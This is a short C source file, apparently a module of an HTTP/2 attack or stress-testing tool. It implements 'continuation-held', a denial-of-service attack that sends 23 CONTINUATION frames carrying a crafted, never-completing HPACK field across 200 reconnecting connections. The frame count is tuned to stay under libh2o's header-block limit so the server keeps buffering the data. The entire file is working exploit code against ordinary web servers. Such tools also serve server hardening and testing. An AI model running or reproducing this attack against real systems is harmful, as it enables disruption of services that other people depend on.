/* SPDX-License-Identifier: Apache-2.0 */
/* Header blocks that never end: the server has to keep what came of them. */
#include "attack.h"

#include <string.h>

#define FRAMES 23 /* with the request's head a little under libh2o's limit for one block */

static bool turn(client *c)
{
    static uint8_t field[FRAME_MAX];
    if (c->step == 0) {
        put_request(c, "GET", END_STREAM);
        return true;
    }
    /* A field whose value is longer than all that will come of it: nothing can be decoded yet. */
    static const uint8_t begin[] = {0x00, 1, 'x', 0x7f, 0x80, 0x80, 0x80, 0x01};
    memset(field, 'a', sizeof(field));
    if (c->step == 1) {
        memcpy(field, begin, sizeof(begin));
    }
    put_frame(c, CONTINUATION, 0, 1, field, sizeof(field));
    return c->step < FRAMES;
}

const attack continuation_held = {
    .name = "continuation-held",
    .help = "header blocks of 23 CONTINUATIONs that never end",
    .carriage = CARRY_H2,
    .connections = 200,
    .reconnects = true,
    .turn = turn,
};
